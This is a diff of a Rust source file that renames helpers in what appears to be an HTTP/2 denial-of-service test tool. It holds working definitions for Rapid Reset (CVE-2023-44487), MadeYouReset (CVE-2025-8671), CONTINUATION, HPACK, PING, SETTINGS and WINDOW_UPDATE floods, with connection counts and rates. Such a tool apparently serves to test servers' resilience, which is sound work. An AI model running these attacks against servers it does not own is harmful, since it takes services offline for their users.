@@ -61,7 +61,7 @@ const STREAMS: Attack = Attack {
     target: Target::Http2,
     connections: 20,
     opens_per_second: 500,
-    opening: |_| frame::opening(false),
+    opening: |_| frame::opening_bytes(false),
     units_per_second: 5_000,
     batch: 1,
     unit: |_, _| (),
@@ -107,8 +107,8 @@ pub(crate) const ATTACKS: &[Attack] = &[
         name: "reset",
         summary: "HEADERS and RST_STREAM in one segment (CVE-2023-44487)",
         unit: |number, out| {
-            request(number, out);
-            frame::frame(out, RST_STREAM, 0, id(number), &CANCEL.to_be_bytes());
+            append_request(number, out);
+            frame::append_frame(out, RST_STREAM, 0, stream_id(number), &CANCEL.to_be_bytes());
         },
         ..STREAMS
     },
@@ -116,8 +116,8 @@ pub(crate) const ATTACKS: &[Attack] = &[
         name: "made-you-reset-overflow",
         summary: "WINDOW_UPDATE that overflows the stream's window (CVE-2025-8671)",
         unit: |number, out| {
-            request(number, out);
-            window(out, id(number), 0x7fff_ffff);
+            append_request(number, out);
+            append_window_update(out, stream_id(number), 0x7fff_ffff);
         },
         ..STREAMS
     },
@@ -125,19 +125,19 @@ pub(crate) const ATTACKS: &[Attack] = &[
         name: "made-you-reset-zero",
         summary: "WINDOW_UPDATE of 0 on a stream",
         unit: |number, out| {
-            request(number, out);
-            window(out, id(number), 0);
+            append_request(number, out);
+            append_window_update(out, stream_id(number), 0);
         },
         ..STREAMS
     },
     Attack {
         name: "made-you-reset-priority",
-        summary: "PRIORITY of a stream on itself",
+        summary: "PRIORITY frames that make a stream depend on itself",
         unit: |number, out| {
-            request(number, out);
-            let mut payload = id(number).to_be_bytes().to_vec();
+            append_request(number, out);
+            let mut payload = stream_id(number).to_be_bytes().to_vec();
             payload.push(15);
-            frame::frame(out, PRIORITY, 0, id(number), &payload);
+            frame::append_frame(out, PRIORITY, 0, stream_id(number), &payload);
         },
         ..STREAMS
     },
@@ -145,9 +145,9 @@ pub(crate) const ATTACKS: &[Attack] = &[
         name: "made-you-reset-length",
         summary: "DATA longer than content-length",
         unit: |number, out| {
-            let block = frame::post("/slow", Some("1"));
-            frame::frame(out, HEADERS, END_HEADERS, id(number), &block);
-            frame::frame(out, DATA, 0, id(number), b"xx");
+            let block = frame::post_block("/slow", Some("1"));
+            frame::append_frame(out, HEADERS, END_HEADERS, stream_id(number), &block);
+            frame::append_frame(out, DATA, 0, stream_id(number), b"xx");
         },
         ..STREAMS
     },
@@ -155,11 +155,11 @@ pub(crate) const ATTACKS: &[Attack] = &[
         name: "made-you-reset-ended",
         summary: "DATA or HEADERS after END_STREAM",
         unit: |number, out| {
-            request(number, out);
+            append_request(number, out);
             if number.is_multiple_of(2) {
-                frame::frame(out, DATA, 0, id(number), b"x");
+                frame::append_frame(out, DATA, 0, stream_id(number), b"x");
             } else {
-                request(number, out);
+                append_request(number, out);
             }
         },
         ..STREAMS
@@ -168,14 +168,14 @@ pub(crate) const ATTACKS: &[Attack] = &[
         name: "ping",
         summary: "PING frames",
         unit: |number, out| {
-            frame::frame(out, PING, 0, 0, &u64::from(number).to_be_bytes());
+            frame::append_frame(out, PING, 0, 0, &u64::from(number).to_be_bytes());
         },
         ..FRAMES
     },
     Attack {
         name: "settings",
         summary: "empty SETTINGS frames",
-        unit: |_, out| frame::frame(out, SETTINGS, 0, 0, &[]),
+        unit: |_, out| frame::append_frame(out, SETTINGS, 0, 0, &[]),
         ..FRAMES
     },
     Attack {
@@ -185,11 +185,11 @@ pub(crate) const ATTACKS: &[Attack] = &[
         batch: 1,
         unit: |number, out| {
             if number == 0 {
-                frame::frame(out, HEADERS, END_STREAM, 1, &frame::get("/slow"));
+                frame::append_frame(out, HEADERS, END_STREAM, 1, &frame::get_block("/slow"));
             }
             let mut block = Vec::new();
-            frame::plain_field(&mut block, "x", 1000);
-            frame::frame(out, CONTINUATION, 0, 1, &block);
+            frame::append_plain_field(&mut block, "x", 1000);
+            frame::append_frame(out, CONTINUATION, 0, 1, &block);
         },
         ..FRAMES
     },
@@ -199,13 +199,13 @@ pub(crate) const ATTACKS: &[Attack] = &[
         units_per_second: 500,
         batch: 1,
         unit: |number, out| {
-            let mut block = frame::get("/slow");
+            let mut block = frame::get_block("/slow");
             if number == 0 {
-                frame::indexed_field(&mut block, 4_000);
+                frame::append_indexed_field(&mut block, 4_000);
             }
-            frame::references(&mut block, 4_000);
+            frame::append_references(&mut block, 4_000);
             let flags = END_STREAM | END_HEADERS;
-            frame::frame(out, HEADERS, flags, id(number), &block);
+            frame::append_frame(out, HEADERS, flags, stream_id(number), &block);
         },
         ..FRAMES
     },
@@ -214,18 +214,24 @@ pub(crate) const ATTACKS: &[Attack] = &[
         summary: "DATA frames without content",
         unit: |number, out| {
             if number == 0 {
-                frame::frame(out, HEADERS, END_HEADERS, 1, &frame::post("/slow", None));
+                frame::append_frame(
+                    out,
+                    HEADERS,
+                    END_HEADERS,
+                    1,
+                    &frame::post_block("/slow", None),
+                );
             }
-            frame::frame(out, DATA, 0, 1, &[]);
+            frame::append_frame(out, DATA, 0, 1, &[]);
         },
         ..FRAMES
     },
     Attack {
         name: "window-update",
-        summary: "WINDOW_UPDATE frames of 1 on the connection",
+        summary: "WINDOW_UPDATE frames that open the connection's window by 1",
         units_per_second: 100_000,
         batch: 100,
-        unit: |_, out| window(out, 0, 1),
+        unit: |_, out| append_window_update(out, 0, 1),
         ..FRAMES
     },
     Attack {
@@ -233,10 +239,16 @@ pub(crate) const ATTACKS: &[Attack] = &[
         summary: "requests for 64 MiB each by clients that never open a window",
         connections: 4,
         units_per_second: 2_000,
-        opening: |_| frame::opening(true),
+        opening: |_| frame::opening_bytes(true),
         unit: |number, out| {
             let flags = END_STREAM | END_HEADERS;
-            frame::frame(out, HEADERS, flags, id(number), &frame::get("/large"));
+            frame::append_frame(
+                out,
+                HEADERS,
+                flags,
+                stream_id(number),
+                &frame::get_block("/large"),
+            );
         },
         units_per_connection: 100,
         holds: true,
@@ -283,18 +295,24 @@ pub(crate) const ATTACKS: &[Attack] = &[
 ];
 
 /// Returns the identifier of a client's stream; streams are numbered from 0.
-fn id(number: u32) -> u32 {
+fn stream_id(number: u32) -> u32 {
     2 * number + 1
 }
 
 /// Appends a complete request to which the origin does not respond.
-fn request(number: u32, out: &mut Vec<u8>) {
+fn append_request(number: u32, out: &mut Vec<u8>) {
     let flags = END_STREAM | END_HEADERS;
-    frame::frame(out, HEADERS, flags, id(number), &frame::get("/slow"));
+    frame::append_frame(
+        out,
+        HEADERS,
+        flags,
+        stream_id(number),
+        &frame::get_block("/slow"),
+    );
 }
 
-fn window(out: &mut Vec<u8>, stream: u32, increment: u32) {
-    frame::frame(out, WINDOW_UPDATE, 0, stream, &increment.to_be_bytes());
+fn append_window_update(out: &mut Vec<u8>, stream: u32, increment: u32) {
+    frame::append_frame(out, WINDOW_UPDATE, 0, stream, &increment.to_be_bytes());
 }
 
 #[cfg(test)]
